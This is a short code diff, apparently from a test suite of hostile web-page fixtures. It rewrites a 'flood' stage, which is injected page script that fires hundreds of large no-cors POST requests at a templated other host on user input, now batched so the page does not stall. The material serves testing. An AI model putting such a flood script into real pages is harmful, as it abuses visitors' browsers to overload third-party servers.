@@ -195,9 +195,14 @@ const attack = (kind: string, name: string, stage: PageAttack['stage']): PageAtt
 
 const cv = `<p><label for="cv">Upload your CV</label> <input id="cv" name="cv" type="file"></p>`;
 
-/** Requests of no answers that take long to look at, from the first answer on. */
+/** Requests of no answers that take long to look at, from the first answer on; in parts, or the page would stand still by its own doing. */
 const flood = stageOf(
-  `let sent = 0; addEventListener('input', () => { if (sent++ < 3) for (let at = 0; at < 400; at += 1) fetch('{{other}}/flood?' + at, { method: 'POST', mode: 'no-cors', body: 'k' + at + '=' + 'fedcbaabcdef1212'.repeat(3000) }).catch(() => {}); });`,
+  `let sent = 0;
+const send = (from) => {
+  for (let at = from; at < from + 40; at += 1) fetch('{{other}}/flood?' + at, { method: 'POST', mode: 'no-cors', body: 'k' + at + '=' + 'fedcbaabcdef1212'.repeat(3000) }).catch(() => {});
+  if (from < 360) setTimeout(send, 0, from + 40);
+};
+addEventListener('input', () => { if (sent++ < 3) send(0); });`,
   '',
 );
 
